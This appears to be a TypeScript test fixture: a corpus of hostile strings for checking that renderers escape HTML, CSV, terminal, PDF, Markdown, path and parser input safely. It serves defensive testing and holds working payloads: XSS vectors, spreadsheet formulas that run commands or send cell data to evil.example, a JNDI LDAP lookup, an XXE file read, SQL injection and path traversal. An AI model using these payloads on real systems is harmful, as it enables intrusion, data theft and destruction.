/** What a hostile string is aimed at. */
export type HostileTarget =
  | "html"
  | "template"
  | "prototype"
  | "spreadsheet"
  | "terminal"
  | "lines"
  | "appearance"
  | "encoding"
  | "pdf"
  | "markdown"
  | "path"
  | "format"
  | "layout";

/** One string that somebody with access to the API could put into a name, user agent, URI or command. */
export interface HostileString {
  /** Unique; fit for the name of a test. */
  readonly name: string;
  readonly attacks: HostileTarget;
  readonly value: string;
}

/** The property of `window` that every script in the corpus would set. A rendered page on which it exists has been taken over. */
export const scriptSentinel = "__pwn";

const pwn = `window.${scriptSentinel}=1`;

const rows: readonly (readonly [HostileTarget, string, string])[] = [
  // HTML: text, attributes, raw-text elements, embedded JSON, addresses.
  ["html", "script element", `<script>${pwn}</script>`],
  ["html", "script element in capitals", `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`],
  ["html", "image with an error handler", `"><img src=x onerror=${pwn}>`],
  ["html", "double-quoted attribute breaker", `" onmouseover="${pwn}" x="`],
  ["html", "single-quoted attribute breaker", `' onfocus='${pwn}' autofocus='`],
  ["html", "unquoted attribute breaker", `x onpointerenter=${pwn} `],
  ["html", "backquoted attribute breaker", `\`onload=${pwn}\``],
  ["html", "svg with a load handler", `<svg/onload=${pwn}>`],
  ["html", "end of a script element", `</script><script>${pwn}</script>`],
  ["html", "end of a style element", `</style><script>${pwn}</script>`],
  ["html", "end of a title element", `</title><script>${pwn}</script>`],
  ["html", "end of a textarea element", `</textarea><script>${pwn}</script>`],
  ["html", "comment in a script", `<!--<script>${pwn}</script>-->`],
  ["html", "CDATA section", `<![CDATA[<script>${pwn}</script>]]>`],
  ["html", "entities", `&lt;b&gt; &amp;amp; &#x3c;script&#62;`],
  ["html", "entity without its end", `&notit; &ampx &lt`],
  ["html", "javascript address", `javascript:${pwn}`],
  ["html", "data address", `data:text/html,<script>${pwn}</script>`],
  ["html", "base element", `<base href="https://evil.example/">`],
  ["html", "meta refresh", `<meta http-equiv="refresh" content="0;url=https://evil.example/">`],
  ["html", "style that fetches", `<style>*{background:url(https://evil.example/x)}</style>`],
  ["html", "iframe with srcdoc", `<iframe srcdoc="<script>parent.${scriptSentinel}=1</script>">`],
  ["html", "element ids of the page", `<form id=body><input name=getElementById>`],
  ["html", "slash before the bracket", `<img/src="x"/onerror="${pwn}"/`],

  // Templates and prototypes.
  ["template", "handlebars value", "{{constructor.name}}"],
  ["template", "handlebars raw value", "{{{this}}}"],
  ["template", "handlebars helper", "{{#with this as |k|}}{{lookup . 'constructor'}}{{/with}}"],
  ["template", "handlebars partial", "{{> layout}}"],
  ["template", "handlebars comment without its end", "{{!-- "],
  ["template", "template literal", "${process.env.HOME}"],
  ["template", "backquotes", "`id`"],
  ["template", "shell substitution", "$(id); `id` && id | id"],
  ["template", "replacement pattern", "$& $1 $` $' $$"],
  ["prototype", "__proto__", "__proto__"],
  ["prototype", "constructor", "constructor"],
  ["prototype", "prototype", "prototype"],
  ["prototype", "hasOwnProperty", "hasOwnProperty"],
  ["prototype", "toString", "toString"],
  ["prototype", "__defineGetter__", "__defineGetter__"],
  ["prototype", "path to the prototype", "constructor.prototype.polluted"],
  ["prototype", "then", "then"],
  ["prototype", "toJSON", "toJSON"],

  // Spreadsheets (OWASP: CSV injection).
  ["spreadsheet", "formula", "=1+1"],
  ["spreadsheet", "formula that runs a command", "=cmd|' /C calc'!A0"],
  ["spreadsheet", "formula that fetches", `=HYPERLINK("https://evil.example/?x="&A1,"see here")`],
  ["spreadsheet", "plus", "+1+cmd|' /C calc'!A0"],
  ["spreadsheet", "minus", "-2+3+cmd|' /C calc'!A0"],
  ["spreadsheet", "at", "@SUM(1+1)"],
  ["spreadsheet", "tab before a formula", "\t=1+1"],
  ["spreadsheet", "carriage return before a formula", "\r=1+1"],
  ["spreadsheet", "line feed before a formula", "\n=1+1"],
  ["spreadsheet", "space before a formula", " =1+1"],
  ["spreadsheet", "no-break space before a formula", "\u00a0=1+1"],
  ["spreadsheet", "byte order mark before a formula", "\ufeff=1+1"],
  ["spreadsheet", "zero-width space before a formula", "\u200b=1+1"],
  ["spreadsheet", "fullwidth equals sign", "＝1+1"],
  ["spreadsheet", "fullwidth plus", "＋1+1"],
  ["spreadsheet", "fullwidth minus", "－1+1"],
  ["spreadsheet", "fullwidth at", "＠SUM(1+1)"],
  ["spreadsheet", "percent", "%0A=1+1"],
  ["spreadsheet", "pipe", "|calc"],
  ["spreadsheet", "end of the cell", `","=1+1","`],
  ["spreadsheet", "end of the quoted cell", `"";=1+1;""`],
  ["spreadsheet", "new row", `x"\r\n=1+1,"y`],
  ["spreadsheet", "single quote", "'=1+1"],
  ["spreadsheet", "XLSX escape", "_x000D__x003D_1+1"],
  ["spreadsheet", "number with leading zeros", "000123"],
  ["spreadsheet", "number that loses digits", "12345678901234567890"],
  ["spreadsheet", "date look-alike", "1-2"],
  ["spreadsheet", "separator line", "sep=;"],

  // Terminals.
  ["terminal", "colour", "\u001b[31mred\u001b[0m"],
  ["terminal", "clear screen", "\u001b[2J\u001b[H"],
  ["terminal", "window title", "\u001b]0;owned\u0007"],
  ["terminal", "hyperlink (OSC 8)", "\u001b]8;;https://evil.example/\u0007click\u001b]8;;\u0007"],
  ["terminal", "hyperlink ended by ST", "\u001b]8;;https://evil.example/\u001b\\click\u001b]8;;\u001b\\"],
  ["terminal", "clipboard (OSC 52)", "\u001b]52;c;aWQ=\u0007"],
  ["terminal", "device control string", "\u001bP+q544e\u001b\\"],
  ["terminal", "answer of the terminal", "\u001b[6n\u001b[c"],
  ["terminal", "C1 control sequence introducer", "\u009b31mred"],
  ["terminal", "C1 operating system command", "\u009d0;owned\u009c"],
  ["terminal", "backspaces", "denied\b\b\b\b\b\ballowed"],
  ["terminal", "carriage return over the line", "denied\rallowed"],
  ["terminal", "bell", "\u0007\u0007\u0007"],
  ["terminal", "delete", "a\u007fb"],
  ["terminal", "shift out", "\u000e\u000f"],
  ["terminal", "vertical tab and form feed", "a\u000bb\u000cc"],

  // Line ends, for logs, CSV and anything read line by line.
  ["lines", "line feed", "one\ntwo"],
  ["lines", "carriage return and line feed", "one\r\ntwo"],
  ["lines", "line feed at the end", "name\n"],
  ["lines", "forged log line", `x\n{"kind":"Event","user":{"username":"root"}}`],
  ["lines", "next line (NEL)", "one\u0085two"],
  ["lines", "line separator", "one\u2028two"],
  ["lines", "paragraph separator", "one\u2029two"],
  ["lines", "tab", "tab\there"],
  ["lines", "only spaces", "   "],
  ["lines", "spaces around", " alice "],
  ["lines", "empty", ""],

  // What looks like something else.
  ["appearance", "zero-width space at the end", "alice\u200b"],
  ["appearance", "zero-width joiner and non-joiner", "al\u200di\u200cce"],
  ["appearance", "word joiner", "ali\u2060ce"],
  ["appearance", "soft hyphen", "ali\u00adce"],
  ["appearance", "Cyrillic homoglyph", "\u0430lice"],
  ["appearance", "Greek homoglyph", "\u03b1dmin"],
  ["appearance", "fullwidth letters", "ａｌｉｃｅ"],
  ["appearance", "mathematical letters", "𝐚𝐝𝐦𝐢𝐧"],
  ["appearance", "service account look-alike", "system:serviceaccount:kube-system\u2024admin"],
  ["appearance", "group claimed in the text", "alice (groups: system:masters)"],
  ["appearance", "right-to-left override", "invoice\u202efdp.exe"],
  ["appearance", "left-to-right override", "a\u202db\u202cc"],
  ["appearance", "embedding without its end", "user\u202b"],
  ["appearance", "isolates", "\u2067admin\u2066 user\u2069\u2069"],
  ["appearance", "isolate without its end", "user\u2066"],
  ["appearance", "marks of direction", "a\u200eb\u200fc\u061cd"],
  ["appearance", "right-to-left text", "مستخدم"],
  ["appearance", "right-to-left and left-to-right text", "עברית admin 123"],
  ["appearance", "composed and decomposed", "Zo\u00eb Zoe\u0308"],
  ["appearance", "dotless i", "ad\u0131m\u0130n"],
  ["appearance", "tag characters", "admin\u{e0061}\u{e0064}\u{e007f}"],
  ["appearance", "invisible filler", "\u3164\u115f\u2800"],
  ["appearance", "interlinear annotation", "a\ufff9b\ufffac\ufffb"],

  // Text that is hard to encode, draw or cut.
  ["encoding", "NUL", "\u0000nul"],
  ["encoding", "NUL in the middle", "alice\u0000admin"],
  ["encoding", "other C0 controls", "\u0001\u0002\u0003\u0008\u001f"],
  ["encoding", "C1 controls", "\u0080\u0090\u009f"],
  ["encoding", "lone high surrogate", "a\ud800b"],
  ["encoding", "lone low surrogate", "a\udc00b"],
  ["encoding", "surrogates in the wrong order", "\udc00\ud800"],
  ["encoding", "high surrogate at the end", "name\ud83d"],
  ["encoding", "replacement character", "latin1-\ufffd\ufffd"],
  ["encoding", "byte order mark", "\ufeffname"],
  ["encoding", "noncharacters", "\ufffe\uffff\u{1ffff}"],
  ["encoding", "private use", "\ue000\u{f0000}"],
  ["encoding", "emoji", "🚀👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿"],
  ["encoding", "emoji with skin tone", "👍🏽"],
  ["encoding", "Chinese, Japanese, Korean", "雪 こんにちは 안녕"],
  ["encoding", "beyond the basic plane", "𠮷𝄞"],
  ["encoding", "Thai and Devanagari", "ภาษาไทย हिन्दी"],
  ["encoding", "ligature", "ﬁle"],
  ["encoding", "pile of combining marks", `Z${"\u0351\u0338\u0489".repeat(40)}`],
  ["encoding", "combining mark first", "\u0301name"],
  ["encoding", "percent-encoded NUL and line feed", "%00%0a%0d"],
  ["encoding", "percent sign without digits", "100%zz%"],
  ["encoding", "double encoding", "%252e%252e%252f"],
  ["encoding", "JSON escapes", '\\u003cscript\\u003e \\" \\\\'],

  // PDF.
  ["pdf", "end of a string and of the text", ") Tj ET"],
  ["pdf", "brackets", "((()"],
  ["pdf", "backslash", "\\)\\(\\\\"],
  ["pdf", "end of a stream", "endstream endobj"],
  ["pdf", "script action", "<< /S /JavaScript /JS (app.alert(1)) >>"],
  ["pdf", "hex string", "<feff0041>"],
  ["pdf", "name", "/Type /Catalog"],
  ["pdf", "end of the file", "%%EOF"],
  ["pdf", "XMP", "</rdf:li></rdf:Alt><x:evil/>"],

  // Markdown and chats.
  ["markdown", "link", "[x](javascript:alert(1))"],
  ["markdown", "image", "![x](https://evil.example/x.png)"],
  ["markdown", "table breaker", "a | b\n|---|---|\n| c"],
  ["markdown", "heading", "# heading"],
  ["markdown", "code fence", "```\ncode\n```"],
  ["markdown", "mention", "<!channel> @here @everyone <@U123>"],
  ["markdown", "autolink", "https://evil.example/login"],

  // Paths and file names.
  ["path", "parent folders", "../../etc/passwd"],
  ["path", "parent folders, Windows", "..\\..\\windows\\win.ini"],
  ["path", "absolute", "/etc/passwd"],
  ["path", "drive", "C:\\Windows"],
  ["path", "device name", "CON.txt"],
  ["path", "leading dash", "--out=/tmp/x"],
  ["path", "dot", "."],
  ["path", "two dots", ".."],
  ["path", "dots between slashes", "a/../../b"],
  ["path", "overlong dots", "%2e%2e%2f%2e%2e%2f"],
  ["path", "colon and stream", "file.txt:stream"],

  // Formats and parsers.
  ["format", "printf", "%n%n%s%s%x"],
  ["format", "CEF", "a|b=c\\|d\\=e"],
  ["format", "LDAP", "${jndi:ldap://evil.example/a}"],
  ["format", "SQL", "'; DROP TABLE events; --"],
  ["format", "XML entity", `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;`],
  ["format", "YAML", "a: [b, &c *c]\n---\n!!js/function x"],
  ["format", "JSON", `"},"user":{"username":"root"}`],
  ["format", "URL", "https://user@evil.example:443@good.example/#?"],
  ["format", "null in words", "null"],
  ["format", "undefined in words", "undefined"],
  ["format", "not a number", "NaN"],
  ["format", "true in words", "true"],

  // What breaks a page.
  ["layout", "long without a place to break", "A".repeat(5_000)],
  ["layout", "long with places to break", "word ".repeat(1_000)],
  ["layout", "many lines", "line\n".repeat(500)],
  ["layout", "long and wide", "雪".repeat(2_000)],
  ["layout", "long and escaped", "<&\"'>".repeat(500)],
  ["layout", "long path", "a/".repeat(1_000)],
];

/**
 * The one corpus of hostile strings. Every renderer is run over all of it: no string may break the structure of an
 * output, run as code, fetch anything, move a cursor, or be lost.
 */
export const hostileStrings: readonly HostileString[] = rows.map(([attacks, name, value]) => ({
  name,
  attacks,
  value,
}));
